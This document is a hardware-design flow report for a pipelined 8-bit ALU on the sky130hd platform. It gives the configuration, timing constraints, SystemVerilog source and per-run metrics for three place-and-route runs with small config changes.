Run 1, I/O nets highlighted:
Scale: 2 px per um.

Run 1, routing congestion:

Run 1, placement density heat map:
Scale: 3 px per um. The die is cut into 11 by 12 equal tiles; dark blue is low, red is high, 0 to 100% covered.

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = alu_pipe_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/alu_pipe_if.sv /design/src/rtl/alu_pipe.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 0
export CORE_AREA = 2 2 112 114
export DETAILED_ROUTE_END_ITERATION = 16
export DIE_AREA = 0 0 114 116
export PLACE_DENSITY = 0.62
export SETUP_SLACK_MARGIN = 0.15
export SLEW_MARGIN = 30
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 3.4 [get_ports clk]
set_input_delay 1.02 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.02 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
==> src/rtl/alu_pipe_if.sv <==
// Handshake and result bundle for alu_pipe: request side (in_*, a, b, op)
// and response side (out_*, y, flags, busy).
interface alu_pipe_if #(
    parameter int WIDTH = 8
);
    logic             in_valid;
    logic             in_ready;
    logic [WIDTH-1:0] a;
    logic [WIDTH-1:0] b;
    logic [2:0]       op;
    logic             out_valid;
    logic             out_ready;
    logic [WIDTH-1:0] y;
    logic             carry_flag;
    logic             zero_flag;
    logic             neg_flag;
    logic             ovf_flag;
    logic             busy;

    modport master (
        output in_valid, a, b, op, out_ready,
        input  in_ready, out_valid, y, carry_flag, zero_flag, neg_flag, ovf_flag, busy
    );

    modport slave (
        input  in_valid, a, b, op, out_ready,
        output in_ready, out_valid, y, carry_flag, zero_flag, neg_flag, ovf_flag, busy
    );
endinterface

==> src/rtl/alu_pipe.sv <==
// Registered ALU with valid/ready handshakes and a WIDTH-cycle shift-add multiplier.
// Optional unsigned saturation of ADD/SUB is enabled by defining ALU_SAT_EN.
module alu_pipe #(
    parameter int WIDTH  = 8,
    parameter bit MUL_EN = 1'b1
) (
    input logic       clk,
    input logic       rst,
    alu_pipe_if.slave bus
);
    localparam int SHW = (WIDTH > 2) ? $clog2(WIDTH) : 1;
    localparam int CW  = $clog2(WIDTH + 1);

    localparam logic [2:0] OP_ADD = 3'd0;
    localparam logic [2:0] OP_SUB = 3'd1;
    localparam logic [2:0] OP_AND = 3'd2;
    localparam logic [2:0] OP_OR  = 3'd3;
    localparam logic [2:0] OP_XOR = 3'd4;
    localparam logic [2:0] OP_SHL = 3'd5;
    localparam logic [2:0] OP_SHR = 3'd6;
    localparam logic [2:0] OP_MUL = 3'd7;

    localparam logic [WIDTH-1:0]   ZERO_W   = {WIDTH{1'b0}};
    localparam logic [WIDTH-1:0]   ONES_W   = {WIDTH{1'b1}};
    localparam logic [2*WIDTH-1:0] ZERO_2W  = {(2*WIDTH){1'b0}};
    localparam logic [CW-1:0]      CNT_ZERO = {CW{1'b0}};
    localparam logic [CW-1:0]      CNT_ONE  = {{(CW-1){1'b0}}, 1'b1};
    localparam logic [CW-1:0]      CNT_LAST = CW'(WIDTH - 1);

    typedef enum logic [0:0] {
        ST_IDLE    = 1'b0,
        ST_MUL_RUN = 1'b1
    } state_t;

    function automatic logic add_ovf(input logic a_msb, input logic b_msb, input logic y_msb);
        return (a_msb == b_msb) && (y_msb != a_msb);
    endfunction

    function automatic logic sub_ovf(input logic a_msb, input logic b_msb, input logic y_msb);
        return (a_msb != b_msb) && (y_msb != a_msb);
    endfunction

    state_t             state_r;
    state_t             state_s;
    logic [WIDTH-1:0]   y_r;
    logic               carry_r;
    logic               zero_r;
    logic               neg_r;
    logic               ovf_r;
    logic               out_valid_r;
    logic               busy_r;

    logic [2*WIDTH-1:0] mul_acc_r;
    logic [2*WIDTH-1:0] mul_mcand_r;
    logic [WIDTH-1:0]   mul_mplier_r;
    logic [CW-1:0]      mul_cnt_r;
    logic [2*WIDTH-1:0] mul_acc_next_s;

    logic               in_ready_s;
    logic               accept_s;
    logic               mul_start_s;
    logic               single_s;
    logic               mul_last_s;

    logic [WIDTH:0]     sum_s;
    logic [WIDTH:0]     diff_s;
    logic [SHW-1:0]     sh_s;
    logic [2*WIDTH-1:0] shl_ext_s;
    logic [2*WIDTH-1:0] shr_ext_s;
    logic [WIDTH-1:0]   res_y_s;
    logic               res_c_s;
    logic               res_v_s;

    assign in_ready_s  = (state_r == ST_IDLE) && (!out_valid_r || bus.out_ready);
    assign accept_s    = bus.in_valid && in_ready_s;
    assign mul_start_s = accept_s && (bus.op == OP_MUL) && MUL_EN;
    assign single_s    = accept_s && !mul_start_s;
    assign mul_last_s  = (state_r == ST_MUL_RUN) && (mul_cnt_r == CNT_LAST);

    assign sum_s     = {1'b0, bus.a} + {1'b0, bus.b};
    assign diff_s    = {1'b0, bus.a} - {1'b0, bus.b};
    assign sh_s      = bus.b[SHW-1:0];
    // Widened shifts keep the last bit shifted out next to the result field.
    assign shl_ext_s = {ZERO_W, bus.a} << sh_s;
    assign shr_ext_s = {bus.a, ZERO_W} >> sh_s;

    assign mul_acc_next_s = mul_mplier_r[0] ? (mul_acc_r + mul_mcand_r) : mul_acc_r;

    assign bus.in_ready   = in_ready_s;
    assign bus.out_valid  = out_valid_r;
    assign bus.y          = y_r;
    assign bus.carry_flag = carry_r;
    assign bus.zero_flag  = zero_r;
    assign bus.neg_flag   = neg_r;
    assign bus.ovf_flag   = ovf_r;
    assign bus.busy       = busy_r;

    // Single-cycle result and carry/overflow for the op being accepted.
    always_comb begin
        res_y_s = ZERO_W;
        res_c_s = 1'b0;
        res_v_s = 1'b0;
        case (bus.op)
            OP_ADD: begin
                res_c_s = sum_s[WIDTH];
`ifdef ALU_SAT_EN
                res_y_s = sum_s[WIDTH] ? ONES_W : sum_s[WIDTH-1:0];
                res_v_s = sum_s[WIDTH] ? 1'b0 :
                          add_ovf(bus.a[WIDTH-1], bus.b[WIDTH-1], sum_s[WIDTH-1]);
`else
                res_y_s = sum_s[WIDTH-1:0];
                res_v_s = add_ovf(bus.a[WIDTH-1], bus.b[WIDTH-1], sum_s[WIDTH-1]);
`endif
            end
            OP_SUB: begin
                res_c_s = diff_s[WIDTH];
`ifdef ALU_SAT_EN
                res_y_s = diff_s[WIDTH] ? ZERO_W : diff_s[WIDTH-1:0];
                res_v_s = diff_s[WIDTH] ? 1'b0 :
                          sub_ovf(bus.a[WIDTH-1], bus.b[WIDTH-1], diff_s[WIDTH-1]);
`else
                res_y_s = diff_s[WIDTH-1:0];
                res_v_s = sub_ovf(bus.a[WIDTH-1], bus.b[WIDTH-1], diff_s[WIDTH-1]);
`endif
            end
            OP_AND: res_y_s = bus.a & bus.b;
            OP_OR:  res_y_s = bus.a | bus.b;
            OP_XOR: res_y_s = bus.a ^ bus.b;
            OP_SHL: begin
                res_y_s = shl_ext_s[WIDTH-1:0];
                res_c_s = shl_ext_s[WIDTH];
            end
            OP_SHR: begin
                res_y_s = shr_ext_s[2*WIDTH-1:WIDTH];
                res_c_s = shr_ext_s[WIDTH-1];
            end
            // Only reached when the multiplier is not built: quiet zero result.
            OP_MUL: begin
                res_y_s = ZERO_W;
                res_c_s = 1'b0;
                res_v_s = 1'b0;
            end
            default: begin
                res_y_s = ZERO_W;
                res_c_s = 1'b0;
                res_v_s = 1'b0;
            end
        endcase
    end

    // Next-state logic: stay in MUL_RUN until the last multiplier bit.
    always_comb begin
        state_s = state_r;
        case (state_r)
            ST_IDLE: begin
                if (mul_start_s) begin
                    state_s = ST_MUL_RUN;
                end else begin
                    state_s = ST_IDLE;
                end
            end
            ST_MUL_RUN: begin
                if (mul_last_s) begin
                    state_s = ST_IDLE;
                end else begin
                    state_s = ST_MUL_RUN;
                end
            end
            default: state_s = ST_IDLE;
        endcase
    end

    // State register plus registered busy mirroring the next state.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state_r <= ST_IDLE;
            busy_r  <= 1'b0;
        end else begin
            state_r <= state_s;
            busy_r  <= (state_s == ST_MUL_RUN);
        end
    end

    // Shift-add multiplier: one multiplier bit consumed per cycle.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            mul_acc_r    <= ZERO_2W;
            mul_mcand_r  <= ZERO_2W;
            mul_mplier_r <= ZERO_W;
            mul_cnt_r    <= CNT_ZERO;
        end else if (mul_start_s) begin
            mul_acc_r    <= ZERO_2W;
            mul_mcand_r  <= {ZERO_W, bus.a};
            mul_mplier_r <= bus.b;
            mul_cnt_r    <= CNT_ZERO;
        end else if (state_r == ST_MUL_RUN) begin
            mul_acc_r    <= mul_acc_next_s;
            mul_mcand_r  <= {mul_mcand_r[2*WIDTH-2:0], 1'b0};
            mul_mplier_r <= {1'b0, mul_mplier_r[WIDTH-1:1]};
            mul_cnt_r    <= mul_cnt_r + CNT_ONE;
        end
    end

    // Result/flag registers; held while the consumer stalls.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            y_r         <= ZERO_W;
            carry_r     <= 1'b0;
            zero_r      <= 1'b0;
            neg_r       <= 1'b0;
            ovf_r       <= 1'b0;
            out_valid_r <= 1'b0;
        end else if (single_s) begin
            y_r         <= res_y_s;
            carry_r     <= res_c_s;
            zero_r      <= (res_y_s == ZERO_W);
            neg_r       <= res_y_s[WIDTH-1];
            ovf_r       <= res_v_s;
            out_valid_r <= 1'b1;
        end else if (mul_last_s) begin
            y_r         <= mul_acc_next_s[WIDTH-1:0];
            carry_r     <= |mul_acc_next_s[2*WIDTH-1:WIDTH];
            zero_r      <= (mul_acc_next_s[WIDTH-1:0] == ZERO_W);
            neg_r       <= mul_acc_next_s[WIDTH-1];
            ovf_r       <= 1'b0;
            out_valid_r <= 1'b1;
        end else if (out_valid_r && bus.out_ready) begin
            out_valid_r <= 1'b0;
        end
    end
endmodule

==> src/flat_wrapper.sv <==
// flat-port wrapper written by rule: the top's interface ports become plain ports
module alu_pipe_flat 
#(
    parameter int WIDTH  = 8,
    parameter bit MUL_EN = 1'b1
)
  (clk, rst, bus_in_valid, bus_a, bus_b, bus_op, bus_out_ready, bus_in_ready, bus_out_valid, bus_y, bus_carry_flag, bus_zero_flag, bus_neg_flag, bus_ovf_flag, bus_busy);
  alu_pipe_if #(.WIDTH(WIDTH)) bus_i ();
  input logic clk;
  input logic rst;
  input wire logic [$bits(bus_i.in_valid)-1:0] bus_in_valid;
  input wire logic [$bits(bus_i.a)-1:0] bus_a;
  input wire logic [$bits(bus_i.b)-1:0] bus_b;
  input wire logic [$bits(bus_i.op)-1:0] bus_op;
  input wire logic [$bits(bus_i.out_ready)-1:0] bus_out_ready;
  output wire logic [$bits(bus_i.in_ready)-1:0] bus_in_ready;
  output wire logic [$bits(bus_i.out_valid)-1:0] bus_out_valid;
  output wire logic [$bits(bus_i.y)-1:0] bus_y;
  output wire logic [$bits(bus_i.carry_flag)-1:0] bus_carry_flag;
  output wire logic [$bits(bus_i.zero_flag)-1:0] bus_zero_flag;
  output wire logic [$bits(bus_i.neg_flag)-1:0] bus_neg_flag;
  output wire logic [$bits(bus_i.ovf_flag)-1:0] bus_ovf_flag;
  output wire logic [$bits(bus_i.busy)-1:0] bus_busy;
  assign bus_i.in_valid = bus_in_valid;
  assign bus_i.a = bus_a;
  assign bus_i.b = bus_b;
  assign bus_i.op = bus_op;
  assign bus_i.out_ready = bus_out_ready;
  assign bus_in_ready = bus_i.in_ready;
  assign bus_out_valid = bus_i.out_valid;
  assign bus_y = bus_i.y;
  assign bus_carry_flag = bus_i.carry_flag;
  assign bus_zero_flag = bus_i.zero_flag;
  assign bus_neg_flag = bus_i.neg_flag;
  assign bus_ovf_flag = bus_i.ovf_flag;
  assign bus_busy = bus_i.busy;
  alu_pipe #(.WIDTH(WIDTH), .MUL_EN(MUL_EN)) u_core (.clk(clk), .rst(rst), .bus(bus_i));
endmodule
==> reports/metrics.csv, run 1 <==
stage,metric,value,unit
critical_path,start_kind,primary input,
cells_and_area,nets,778,
synthesis,xor_share,0.0282,
cells_and_area,layout.cells.most_common_list,"buf_4, nand2_1, dfrtp_1, nor2_1, ha_1",
critical_path,r2r_start,u_core.mul_mcand_r[0],
timing,skew,8.24,ps
synthesis,synthAoiAreaFrac,0.235,
cells_and_area,buf_share,0.162,
global_routing,first_global_vias,5122,
synthesis,synth_cell_types,80,
min_path,holdPathEnd,u_core.bus.y[4],
floorplan,num_rows,40,
critical_path,cp-startpoint,bus_b[4],
timing,hold_violations,0,
cells_and_area,stdcell_area,6840,um^2
critical_path,cp_max_fo,2,
placed_design,dpl-instance-area,6350,um^2
clock_network,cts_setup_buffers,0,
placed_design,place_congestion,0.911,
critical_path,r2r-end,u_core.bus.zero_flag,
power,vdd_drop_max,0.000272,V
global_routing,grt_max_degree,39,
critical_path,criticalPathCategory,in -> reg,
timing,fin_ws,264,ps
synthesis,yosys_warnings,0,
cells_and_area,logic_area,3690,um^2
placed_design,dp_hpwl,12.7,mm
flow_run,maxCapViolations,0,
critical_path,cp.required,3610,ps
floorplan,nWellTaps,147,
cells_and_area,area_delta_synth_final,29.4,%
synthesis,ys_sh_adder,0.108,
clock_network,ctsHoldBuffers,0,
timing,worst_pin_slew,777,ps
timing,whs,477,ps
route,wl_met3,920,um
power,p_int,2.38,mW
power,power.density,636,nW/um^2
cells_and_area,clkCellAreaFrac,0.0421,
synthesis,ys_ff,57,
floorplan,fp-utilization,0.444,
outcome,status,"complete, no violations",
cells_and_area,reg_top3,"u_core.mul_acc_r: 16 flops, u_core.mul_mcand_r: 16 flops",
cells_and_area,nNonClkBuffers,126,
global_routing,busiest_layer,met2,
clock_network,cts_sinks,57,
global_routing,grt_pass1_wl,26.6,mm
floorplan,die-area,13200,um^2
min_path,hold_path.class,reg -> reg,
cells_and_area,fin_cells,863,
power,pwr-share-comb,0.525,
synthesis,syn_avg_cell_area,8.62,um^2
power,p_sw,1.97,mW
cells_and_area,largestClassByArea,multi-input combinational cells,
timing,max_freq,319,MHz
global_routing,overflow,0,
route,routed_wl,16.6,mm
clock_network,cts_max_level,3,
synthesis,async_flop_share,1.00,
critical_path,crit_chain,clkdlybuf4s50_1 -> inv_1 -> ha_1 -> or3_1 -> a2111oi_2 -> buf_4 -> nor2_1 -> xnor2_1 -> nand3_1 -> o31ai_1 -> a32o_1,
synthesis,syn_nets,680,
synthesis,ys_seq_frac,0.270,
synthesis,yosys.stat.chipArea,5290,um^2
timing,tns,0,ps
cells_and_area,fin_util,0.574,
critical_path,crit_buf_inv,3,
cells_and_area,layout-drive-gt1-share,0.233,
power,leakage,3.17,nW
cells_and_area,n_clock_buffer,9,
route,top_layer,met4,
critical_path,worstPathArrival,3350,ps
route,drtIter0Drc,516,
power,p_sw_frac,0.454,
cells_and_area,regArea,1430,um^2
route,dr_wl_met2,7.70,mm
power,p_seq_frac,0.275,
synthesis,synth-simple-area-share,0.188,
critical_path,reg2reg_depth,9,
synthesis,synthMuxAreaShare,0.107,
Back to the opening pictures, 'I/O nets highlighted':
colour	port	bits	direction	edge	end cells	wire
magenta	`bus_a`	8	input	7 left, 1 top	52	1240 um
orange	`bus_op`	3	input	left	57	730 um
num ports: 38
port buffer count: 37

Back to the opening pictures, 'routing congestion':
met3 Use GR: 0.0450
routed length per placed instance: 19.2 um
global routing usage on met1: 0.349

Back to the opening pictures, 'placement density heat map':
tiles over 75% full	13%
mean over tiles	50%
nearly empty tiles	7.6%
fullest tile	90%
emptiest ninth of the die	bottom left

## run 1: Yosys cell counts, drive strengths merged (8+ instances only)
cell type	count	area share
a21oi	24	0.023
a22oi	12	0.017
buf	21	0.025
clkbuf	18	0.013
dfrtp	57	0.27
ha	41	0.097
inv	37	0.026
mux2	8	0.017
mux2i	32	0.061
nand2	77	0.055
nand3	19	0.019
nor2	45	0.032
nor2b	10	0.012
nor3	10	0.0095
o211ai	9	0.013
o21ai	37	0.035
xnor2	9	0.015
xor2	8	0.013
## run 1: power by group through the flow
stage / Combinational [mW] / Clock (mW) / Sequential [mW]
global placement: 2.16 / 0 / 1.19
detailed placement: 2.21 / 0 / 1.20
floorplan: 1.44 / 0 / 1.33
finish: 2.28 / 0.871 / 1.20
global route: 2.48 / 0.907 / 1.23
CTS: 2.23 / 0.876 / 1.19
Run 1, clock wires, drivers and flops:
Scale: 3 px per um.


## Run 2: what changed since run 1
--- a/config.mk
+++ b/config.mk
@@ -5,11 +5,12 @@
 export SDC_FILE = /design/constraint.sdc
 export NUM_CORES = 1
 export LEC_CHECK = 0
-export CAP_MARGIN = 0
+export CAP_MARGIN = 20
 export CORE_AREA = 2 2 112 114
 export DETAILED_ROUTE_END_ITERATION = 16
 export DIE_AREA = 0 0 114 116
 export PLACE_DENSITY = 0.62
+export RECOVER_POWER = 50
 export SETUP_SLACK_MARGIN = 0.15
 export SLEW_MARGIN = 30
 export SYNTH_ARGS = -nofsm -noshare

Run 2: clock wires, drivers and flops
Scale: 3 px per um.
[purple] cells driving clock nets | count: 9
[red] clock wires | length: 867 um
[blue] flip-flops | count: 57
routed clock nets	10
Clock power frac: 0.201
clk pwr: 0.869 mW
clock latency on the worst-skew pair: 330 ps

==> reports/metrics.csv, run 2 <==
stage,metric,value,unit,change
outcome,status,"complete, no violations",,
timing,fin_ws,263,ps,-0.195 ps
clock_network,cts_max_level,3,,unchanged
synthesis,syn_nets,680,,unchanged
critical_path,criticalPathCategory,in -> reg,,
critical_path,start_kind,primary input,,
synthesis,async_flop_share,1.00,,unchanged
cells_and_area,area_delta_synth_final,29.2,%,
timing,skew,8.13,ps,-0.107 ps
synthesis,yosys_warnings,0,,unchanged
power,pg_comb,2.27,mW,about the same
power,powerSeq,1.19,mW,about the same
power,vdd_drop_max,0.000273,V,about the same
placed_design,dpl-instance-area,6350,um^2,unchanged
synthesis,syn_avg_cell_area,8.62,um^2,unchanged
timing,tns,0,ps,unchanged
clock_network,ctsHoldBuffers,0,,unchanged
synthesis,yosys.stat.chipArea,5290,um^2,unchanged
critical_path,r2r_start,u_core.mul_mcand_r[0],,
cells_and_area,reg_top3,"u_core.mul_acc_r: 16 flops, u_core.mul_mcand_r: 16 flops",,
critical_path,crit_buf_inv,3,,unchanged
power,pwr-share-comb,0.523,,-0.002
critical_path,cp_max_fo,2,,unchanged
global_routing,grt_pass1_wl,26.6,mm,unchanged
cells_and_area,nets,778,,unchanged
clock_network,cts_sinks,57,,unchanged
placed_design,dp_hpwl,12.7,mm,unchanged
timing,hold_violations,0,,unchanged
synthesis,top_area_frac,0.270,,unchanged
global_routing,grt_max_degree,39,,unchanged
floorplan,die-area,13200,um^2,unchanged
route,drtIter0Drc,541,,+4.8%
power,p_seq_frac,0.276,,about the same
power,p_sw,1.97,mW,-0.33%
timing,whs,471,ps,-5.55 ps
power,power_leader,combinational cells,,
cells_and_area,layout.cells.most_common_list,"buf_4, nand2_1, dfrtp_1, nor2_1, ha_1",,
synthesis,most_common_cell,nand2_1,,
min_path,holdPathEnd,u_core.bus.y[4],,
timing,worst_pin_slew,1030,ps,+253 ps
synthesis,synthMuxAreaShare,0.107,,unchanged
synthesis,ys_seq_frac,0.270,,unchanged

Run 2: placement density heat map
Scale: 3 px per um. The die is cut into 11 by 12 equal tiles; dark blue is low, red is high, 0 to 100% covered.
fullest tile	90%
tiles over 75% full	13%
emptiest ninth of the die	bottom left
nearly empty tiles	7.6%
mean over tiles	50%
fp util: 0.444
core footprint: 11900 um^2
final core utilization: 0.573

[run 2: routing by layer]
layer	up-vias	wire length (um)	global-route usage
met5	-	0	0
met4	0	402	0.0959
met3	28	941	0.0450
met2	168	7710	0.416
met1	2530	7460	0.349
li1	2459	-	-
[run 2: kinds of logic after synthesis]
kind of cell / after synthesis
multiplexers: 47
adder cells (fa/ha/maj): 44
AND-OR/OR-AND: 167
XOR/XNOR: 17
buffers and inverters: 76
flip-flops: 57
AND/OR/NAND/NOR: 205
[run 2: cell type report]
cell class	count	area [um^2]
clock inverter	7	62.6
clock buffer	9	225
sequential	57	1430
timing repair buffer	126	1090
fill	1084	5080
multi-input combinational	480	3690
inverter	37	139
tap	147	184
Run 2, I/O nets highlighted:
Scale: 2 px per um.


## Run 3: what changed since run 2
--- a/config.mk
+++ b/config.mk
@@ -6,10 +6,12 @@
 export NUM_CORES = 1
 export LEC_CHECK = 0
 export CAP_MARGIN = 20
+export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 1
+export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
 export CORE_AREA = 2 2 112 114
 export DETAILED_ROUTE_END_ITERATION = 16
 export DIE_AREA = 0 0 114 116
-export PLACE_DENSITY = 0.62
+export PLACE_DENSITY = 0.78
 export RECOVER_POWER = 50
 export SETUP_SLACK_MARGIN = 0.15
 export SLEW_MARGIN = 30

Run 3: I/O nets highlighted
Scale: 2 px per um.
colour	port	bits	direction	edge	end cells	wire
orange	`bus_op`	3	input	left	57	855 um
magenta	`bus_a`	8	input	left	52	1450 um


Run 3: metal 4
Scale: 3 px per um. Supply wires on this layer in grey.
wire length on this layer	871 um
main direction	vertical
via count: 5518
Routed WL: 20.5 mm

==> reports/metrics.csv, run 3 <==
stage,metric,value,unit,change
cells_and_area,buf_share,0.159,,-0.000903
synthesis,common_cells,"nand2_1, dfrtp_1, nor2_1, ha_1, o21ai_0",,
placed_design,dp_hpwl,14.9,mm,+17%
min_path,holdPathEnd,u_core.bus.ovf_flag,,
synthesis,synthAoiAreaFrac,0.235,,
route,dr_wl_met2,10.4,mm,+35%
synthesis,ys_seq_frac,0.270,,unchanged
power,pwr-share-comb,0.519,,-0.004
clock_network,cts_max_level,3,,unchanged
critical_path,cp.required,2380,ps,
cells_and_area,nNonClkBuffers,130,,+3.2%
critical_path,cp_max_fo,3,,+1
floorplan,nWellTaps,147,,unchanged
global_routing,grtUsageMet2,0.560,,+0.144
cells_and_area,clkCellAreaFrac,0.0500,,+0.00782
flow_run,warnings,43,,
synthesis,syn_avg_cell_area,8.62,um^2,unchanged
timing,worst_pin_slew,1140,ps,+111 ps
critical_path,reg2reg_setup_slack,300,ps,
floorplan,io_pins,38,,
synthesis,yosys_warnings,0,,unchanged
route,drtIter0Drc,476,,-12%
clock_network,ctsHoldBuffers,0,,unchanged
timing,hold_violations,0,,unchanged
floorplan,fp-utilization,0.444,,unchanged
global_routing,busiest_layer,met2,,
cells_and_area,comb_share,0.534,,-0.00752
power,p_clk_frac,0.220,,+0.019
cells_and_area,reg_top3,"u_core.mul_acc_r: 16 flops, u_core.mul_mcand_r: 16 flops",,
critical_path,start_kind,primary input,,
cells_and_area,comb_cells,480,,unchanged
clock_network,insertion_delay,330,ps,about the same
critical_path,crit_buf_inv,2,,-1
cells_and_area,layout-drive-gt1-share,0.221,,
synthesis,syn_nets,680,,unchanged
cells_and_area,regArea,1430,um^2,unchanged
global_routing,grt_pass1_wl,32.0,mm,+21%
cells_and_area,num-fill-cells,1399,,+29%
min_path,hp-start,u_core.bus.ovf_flag,,
cells_and_area,n_all_inverters,37,,unchanged
cells_and_area,largestClassByArea,multi-input combinational cells,,
route,top_layer,met4,,
outcome,status,"complete, no violations",,
route,wl_met3,1.20,mm,+27%
cells_and_area,n_clock_buffer,12,,+3
cells_and_area,area_delta_synth_final,28.9,%,
synthesis,synth_cell_types,80,,
cells_and_area,design.seq.count,57,,unchanged
power,p_seq_frac,0.261,,-0.015
global_routing,use_met1,0.369,,+0.0203
timing,fin_crit_sh,0.941,,
cells_and_area,layout.cells.most_common_list,"buf_4, nand2_1, dfrtp_1, nor2_1, ha_1",,
critical_path,criticalPathCategory,in -> out,,
timing,whs,493,ps,+21.2 ps
timing,max_freq,313,MHz,
synthesis,yosys.stat.chipArea,5290,um^2,unchanged
synthesis,synthMuxAreaShare,0.107,,unchanged
power,pwr.group.clock,1.03,mW,+20%
clock_network,clock-root-buffer,clkbuf_16,,
critical_path,r2r_start,u_core.mul_mcand_r[0],,
power,pg_comb,2.43,mW,+7%
clock_network,clkTransAtPathRegs,50,ps,
global_routing,use_met3,0.0581,,+0.0131
route,wire_per_inst,23.7,um,
cells_and_area,nets,782,,+0.51%
synthesis,most_common_cell,nand2_1,,
timing,fin_ws,201,ps,-62.9 ps
synthesis,async_flop_share,1.00,,unchanged
cells_and_area,fin_util,0.572,,-0.00136
route,met1_length,8.03,mm,+7.6%
floorplan,die-area,13200,um^2,unchanged
power,powerSeq,1.23,mW,+3%
clock_network,cts_sinks,57,,unchanged
floorplan,core_region_area,11900,um^2,unchanged
power,power_leader,combinational cells,,
global_routing,grt_max_degree,34,,-13%
power,vdd_drop_max,0.000276,V,+1.4%
synthesis,top_area_frac,0.270,,unchanged
power,p_sw,2.11,mW,+7.2%
cells_and_area,logic_area,3630,um^2,-1.6%
timing,skew,7.54,ps,-0.588 ps
cells_and_area,sh_seq_area,0.210,,+0.000499
placed_design,dpl-instance-area,6350,um^2,unchanged
min_path,hold_path_depth,1,,
clock_network,cts_buffers,9,,
placed_design,dp_slack,-253,ps,
timing,tns,0,ps,unchanged
critical_path,timing.critical_path.slowest_cell_delay,470,ps,
==> run 3: repair_timing <==
action	CTS	global route
pin swaps	1	6
resized	9	21
setup buffers	1	0
endpoints found under the setup margin	4	8
==> run 3: worst max-delay path by stage <==
stage | to | depth (start not counted) | startpoint | slack [ps]
after floorplan | u_core.bus.zero_flag | 11 | bus_b[1] | 190
after global placement | u_core.bus.zero_flag | 11 | bus_b[4] | -170
after detailed placement | u_core.bus.y[6] | 11 | bus_a[0] | -250
after CTS | u_core.bus.carry_flag | 10 | u_core.mul_mcand_r[0] | 170
after global routing | u_core.bus.y[7] | 10 | bus_a[4] | 40
final | bus_in_ready | 4 | bus_out_ready | 200
Power figures rest on the tool's default switching activity, not on a simulated workload.
